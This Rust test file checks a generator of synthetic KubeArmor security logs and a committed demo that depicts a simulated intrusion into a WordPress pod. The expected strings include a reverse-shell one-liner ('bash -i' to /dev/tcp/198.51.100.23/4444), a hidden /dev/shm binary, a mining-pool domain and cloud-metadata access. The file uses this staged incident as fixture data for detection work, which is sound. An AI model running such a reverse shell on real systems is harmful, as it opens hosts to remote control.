//! The corpus generator keeps its promises: reproducible, well formed, and as long as asked.

use std::collections::BTreeSet;

use serde_json::Value;

use crate::generate::{self, Dialect, Operation, Plan, Size, Stats};

const TYPES: [&str; 8] = [
    "ContainerLog",
    "HostLog",
    "MatchedPolicy",
    "MatchedHostPolicy",
    "MatchedNetworkPolicy",
    "SystemEvent",
    "SystemLog",
    "Message",
];

/// Message `Log` of protobuf/kubearmor.proto.
const LOG: &str = "Timestamp UpdatedTime ClusterName HostName NamespaceName Owner PodName Labels \
    ContainerID ContainerName ContainerImage ParentProcessName ProcessName HostPPID HostPID PPID PID \
    UID Type Source Operation Resource Data EventData Result Cwd TTY ExecEvent NodeID ProcessHash \
    ParentHash ResourceHash HashAlgo UserName";

/// Message `Alert` of protobuf/kubearmor.proto.
const ALERT: &str = "Timestamp UpdatedTime ClusterName HostName NamespaceName Owner PodName Labels \
    ContainerID ContainerName ContainerImage HostPPID HostPID PPID PID UID ParentProcessName \
    ProcessName PolicyName Severity Tags ATags Message Type Source Operation Resource Data EventData \
    Enforcer Action Result Cwd TTY MaxAlertsPerSec DroppingAlertsInterval ExecEvent KubeArmorVersion \
    NodeID ProcessHash ParentHash ResourceHash HashAlgo UserName";

/// The daemon's struct of both.
const CAMEL: &str = "timestamp updatedTime hostName namespaceName owner podName labels containerID \
    containerName containerImage hostPPid hostPid ppid pid uid execEvent parentProcessName \
    processName enforcer policyName severity tags atags message type source operation resource cwd \
    tty oid data eventData action result MaxAlertsPerSec DroppingAlertsInterval";

fn corpus(plan: &Plan) -> (String, Stats) {
    let mut out = Vec::new();
    let stats = generate::write(&mut out, plan).unwrap();
    (String::from_utf8(out).unwrap(), stats)
}

fn records(count: u64) -> Plan {
    Plan::new(Size::Records(count), 1)
}

fn text<'a>(record: &'a Value, key: &str) -> &'a str {
    record.get(key).and_then(Value::as_str).unwrap_or("")
}

#[test]
fn same_seed_same_bytes() {
    assert_eq!(corpus(&records(3000)), corpus(&records(3000)));
}

#[test]
fn another_seed_another_corpus() {
    let other = Plan::new(Size::Records(3000), 2);
    assert_ne!(corpus(&records(3000)).0, corpus(&other).0);
}

#[test]
fn every_line_is_a_record_with_its_keys_in_order() {
    for dialect in [Dialect::Pascal, Dialect::Camel, Dialect::Mixed] {
        let (lines, stats) = corpus(&Plan {
            dialect,
            ..records(5000)
        });
        assert_eq!(lines.lines().count(), 5000);
        assert_eq!(stats.records, 5000);
        let mut spellings = BTreeSet::new();
        for line in lines.lines() {
            spellings.insert(check(line));
        }
        assert_eq!(
            spellings.len(),
            if dialect == Dialect::Mixed { 2 } else { 1 }
        );
    }
}

/// Asserts that `line` is well formed, and tells whether its keys are camel.
fn check(line: &str) -> bool {
    let record: Value = serde_json::from_str(line).unwrap();
    let keys: Vec<&String> = record.as_object().unwrap().keys().collect();
    let camel = record.get("type").is_some();
    let [kind, operation] = if camel {
        ["type", "operation"]
    } else {
        ["Type", "Operation"]
    };
    let (kind, operation) = (text(&record, kind), text(&record, operation));
    assert!(TYPES.contains(&kind), "{line}");
    assert!(
        Operation::ALL.iter().any(|known| known.name() == operation),
        "{line}"
    );
    let alert = kind.starts_with("Matched") || kind == "SystemEvent";
    let order = if camel {
        CAMEL
    } else if alert {
        ALERT
    } else {
        LOG
    };
    let mut last = 0;
    let mut seen = 0;
    for key in order
        .split_ascii_whitespace()
        .filter(|key| record.get(*key).is_some())
    {
        let at = line.find(&format!("\"{key}\":")).unwrap();
        assert!(at > last || seen == 0, "{key} in {line}");
        last = at;
        seen += 1;
    }
    assert_eq!(seen, keys.len(), "an unknown key in {line}");
    camel
}

#[test]
fn all_operations_occur_and_are_counted() {
    let (lines, stats) = corpus(&records(5000));
    for (operation, count) in Operation::ALL.iter().zip(stats.operations) {
        let name = format!("\"Operation\":\"{}\"", operation.name());
        let found = lines.lines().filter(|line| line.contains(&name)).count() as u64;
        assert!(found > 0, "{name}");
        assert_eq!(found, count, "{name}");
    }
}

#[test]
fn one_pod_has_exactly_five_records() {
    for size in [1000, 20_000] {
        let (lines, _) = corpus(&records(size));
        assert_eq!(lines.matches("\"PodName\":\"ledger-reconcile-").count(), 5);
    }
}

#[test]
fn command_lines_are_escaped_as_go_does() {
    let (lines, _) = corpus(&records(1000));
    assert!(lines.contains(r"bash -i \u003e\u0026 /dev/tcp/198.51.100.23/4444"));
    assert!(!lines.contains(['<', '>', '&']));
}

#[test]
fn the_incident_happens_once_and_can_be_left_out() {
    let shell = "/bin/bash -i\",\"Data\":\"syscall=SYS_EXECVE\"";
    for size in [
        Size::Records(1000),
        Size::Records(20_000),
        Size::Bytes(2_000_000),
    ] {
        let plan = Plan::new(size, 3);
        let (lines, _) = corpus(&plan);
        assert_eq!(lines.matches(shell).count(), 1, "{size:?}");
        assert!(
            lines.contains("\"ExecID\":\"842316907755103\""),
            "{size:?}: the last scene"
        );
        let at = lines.find(shell).unwrap() * 100 / lines.len();
        assert!((60..80).contains(&at), "{size:?}: at {at} %");
        let (lines, _) = corpus(&Plan {
            incident: false,
            ..plan
        });
        assert!(!lines.contains(shell));
        assert!(!lines.contains("203.0.113.66"));
    }
}

#[test]
fn bytes_are_reached_within_one_record() {
    for size in [1, 100_000, 1_500_000] {
        let plan = Plan {
            noise: 20,
            ..Plan::new(Size::Bytes(size), 1)
        };
        let (lines, stats) = corpus(&plan);
        assert_eq!(lines.len() as u64, stats.bytes);
        let last = lines.lines().next_back().unwrap().len() as u64 + 1;
        assert!(
            stats.bytes >= size && stats.bytes - last < size,
            "{size}: {}",
            stats.bytes
        );
    }
}

#[test]
fn noise_is_not_telemetry() {
    let (lines, stats) = corpus(&Plan {
        noise: 100,
        ..records(5000)
    });
    let is_record = |line: &&str| {
        serde_json::from_str::<Value>(line).is_ok_and(|value| value.get("Operation").is_some())
    };
    let noise = lines.lines().count() - lines.lines().filter(is_record).count();
    assert_eq!(noise as u64, stats.noise);
    assert!((400..800).contains(&noise), "{noise}");
}

fn demo() -> String {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/demo/incident.ndjson");
    std::fs::read_to_string(path).unwrap()
}

fn demo_records() -> Vec<Value> {
    let demo = demo();
    let values = demo
        .lines()
        .filter_map(|line| serde_json::from_str::<Value>(line).ok());
    values
        .filter(|value| value.get("Operation").is_some())
        .collect()
}

#[test]
fn committed_demo_is_what_the_generator_writes() {
    let (lines, _) = corpus(&Plan::demo());
    assert!(
        lines == demo(),
        "run `cargo run --example corpus -- --demo > demo/incident.ndjson`"
    );
}

#[test]
fn demo_is_small_and_of_one_morning() {
    let records = demo_records();
    assert!((120..=200).contains(&records.len()), "{}", records.len());
    assert!(demo().len() < 250_000, "{}", demo().len());
    for record in &records {
        let time = text(record, "UpdatedTime");
        assert!(
            ("2026-03-14T09:40".."2026-03-14T09:53").contains(&time),
            "{time}"
        );
    }
}

#[test]
fn demo_tells_the_incident() {
    let records = demo_records();
    let count =
        |test: &dyn Fn(&Value) -> bool| records.iter().filter(|record| test(record)).count();
    let of = |key: &'static str, value: &'static str| {
        move |record: &Value| text(record, key).contains(value)
    };
    assert_eq!(count(&of("Resource", "/bin/bash -i")), 1);
    assert_eq!(count(&of("Operation", "AlertThreshold")), 1);
    assert_eq!(
        count(&of(
            "Data",
            "kfunc=UDP_SENDSKB domain=pool.blockforge.example"
        )),
        1
    );
    assert_eq!(count(&of("Data", "kfunc=")), 1);
    assert!(count(&of("Result", "Permission denied")) >= 10);
    assert_eq!(count(&of("Resource", "169.254.169.254 port=80")), 2);
    let agents = |record: &Value| {
        text(record, "NamespaceName") == "accuknox-agents" && text(record, "Operation") == "Network"
    };
    assert!((4..=8).contains(&count(&agents)), "{}", count(&agents));
}

#[test]
fn demo_ancestry_holds_together() {
    let records = demo_records();
    let exec = |part: &str| {
        let found = records.iter().find(|record| {
            text(record, "Operation") == "Process" && text(record, "Resource").starts_with(part)
        });
        found.unwrap_or_else(|| panic!("{part}"))
    };
    let chain = [
        "/bin/sh -c bash -c",
        "/bin/bash -c bash -i",
        "/bin/bash -i",
        "/dev/shm/.kworkerd -o",
    ];
    for pair in chain.windows(2) {
        let (parent, child) = (exec(pair[0]), exec(pair[1]));
        assert_eq!(child["HostPPID"], parent["HostPID"], "{pair:?}");
        assert_eq!(child["PPID"], parent["PID"], "{pair:?}");
        assert_eq!(
            child["ParentProcessName"], parent["ProcessName"],
            "{pair:?}"
        );
        assert_eq!(child["PodName"], "wordpress-6c9f7d8b54-x2vkt");
    }
    let session = exec("/bin/ls -la /dev/shm");
    assert_eq!(session["TTY"], "pts0");
    assert_eq!(session["ExecEvent"]["ExecID"], "842316907755103");
}

#[test]
fn one_indicator_is_in_the_demo_and_two_are_not() {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/demo/iocs.txt");
    let list = std::fs::read_to_string(path).unwrap();
    let rows: Vec<&str> = list
        .lines()
        .filter(|row| !row.is_empty() && !row.starts_with('#'))
        .collect();
    assert_eq!(
        rows,
        ["203.0.113.66", "192.0.2.128/26", "2001:db8:5ca1:ab1e::/64"]
    );
    assert!(demo().contains("sin_addr=203.0.113.66"));
    assert!(!demo().contains("192.0.2.") && !demo().contains("2001:db8"));
}
